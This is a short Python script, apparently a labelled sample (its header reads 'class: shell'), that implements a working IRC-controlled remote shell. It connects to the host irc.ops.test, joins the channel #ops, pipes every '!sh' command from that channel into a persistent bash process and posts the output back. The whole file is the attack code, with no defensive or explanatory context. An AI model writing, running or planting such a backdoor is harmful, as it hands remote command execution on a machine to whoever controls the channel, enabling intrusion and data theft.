# class: shell; possible: low medium; style: IRC, one bash that stays
import socket, subprocess, threading
s = socket.create_connection(("irc.ops.test", 6667))
s.sendall(b"NICK z1\r\nUSER z 0 * :z\r\n")
b = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def out():
    for l in b.stdout: s.sendall(b"PRIVMSG #ops :" + l.strip() + b"\r\n")
threading.Thread(target=out, daemon=True).start()
buf = b""
while True:
    d = s.recv(4096)
    if not d: break
    buf += d
    while b"\r\n" in buf:
        l, buf = buf.split(b"\r\n", 1)
        if l.startswith(b"PING"): s.sendall(b"PONG" + l[4:] + b"\r\n")
        elif b" 001 " in l: s.sendall(b"JOIN #ops\r\n")
        elif b"PRIVMSG #ops :!sh " in l:
            b.stdin.write(l.split(b":!sh ", 1)[1] + b"\n"); b.stdin.flush()
